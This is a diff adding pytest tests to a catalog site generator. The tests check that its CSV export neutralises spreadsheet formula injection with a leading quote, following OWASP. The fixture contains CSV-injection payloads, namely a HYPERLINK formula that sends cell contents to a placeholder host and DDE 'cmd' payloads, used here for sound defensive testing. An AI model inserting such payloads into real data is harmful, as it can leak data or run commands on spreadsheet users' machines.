@@ -68,3 +68,55 @@ def test_data_dictionary_documents_every_field(built_site, catalog):
     documented = " ".join(part for part in page.split("<code>"))
     for key in innovation_record(catalog.by_id["layanan-induk"]):
         assert key in documented, key
+
+
+FORMULAS = {  # CSV column → value written by a contributor
+    "title": '=HYPERLINK("https://contoh.id/?d="&A1,"Klik")',
+    "regency": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "requirements": "-2+3+cmd|' /C calc'!A0",
+    "cost": "+62 juta",
+}
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(tmp_path):
+    """OWASP's CSV-injection remedy in data/innovations.csv; the JSON keeps the text exact."""
+    import shutil
+
+    from generator.pipeline import load_catalog
+
+    from .conftest import FIXTURE, TODAY
+
+    content = tmp_path / "content"
+    shutil.copytree(FIXTURE, content)
+    case = content / "innovations" / "layanan-induk.md"
+    text = case.read_text(encoding="utf-8")
+    text = text.replace("title: Layanan Induk Antrean Puskesmas Daring", f"title: '{FORMULAS['title']}'", 1)
+    text = text.replace("regency: Kota Contoh", f"regency: \"{FORMULAS['regency']}\"", 1)
+    text = text.replace("requirements: Puskesmas dengan sambungan internet dan petugas pendaftaran.",
+                        f"requirements: \"{FORMULAS['requirements']}\"", 1)
+    text = text.replace("cost: Sekitar Rp50 juta per tahun.", f"cost: \"{FORMULAS['cost']}\"", 1)
+    case.write_text(text, encoding="utf-8")
+    catalog, _ = load_catalog(content, TODAY)
+    rows = list(csv.reader(io.StringIO(export_csv(catalog).decode("utf-8-sig"))))
+    row = dict(zip(rows[0], next(r for r in rows if r[0] == "layanan-induk")))
+    for column, value in FORMULAS.items():
+        assert row[column] == "'" + value, column
+    for r in rows[1:]:  # no cell of any row starts a formula
+        assert [c for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    record = next(r for r in json.loads(export_json(catalog))["innovations"] if r["id"] == "layanan-induk")
+    assert record["title"] == FORMULAS["title"] and record["agency"]["regency"] == FORMULAS["regency"]
+    assert record["cost"] == FORMULAS["cost"] and record["requirements"] == FORMULAS["requirements"]
+
+
+def test_csv_cell_neutralises_every_formula_trigger():
+    from generator.exports import csv_cell
+
+    for trigger in ("=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20"):
+        assert csv_cell(trigger + "1+1") == "'" + trigger + "1+1"
+    for harmless in ("", "Kota Contoh", "2019", "'=sudah", " =1", "https://contoh.id/"):
+        assert csv_cell(harmless) == harmless
+
+
+def test_data_dictionary_explains_the_quote(outputs):
+    page = next(o for o in outputs if getattr(o, "src_uri", "") == "data/kamus-data/index.md")
+    assert "OWASP" in page.html and "petik tunggal" in page.html
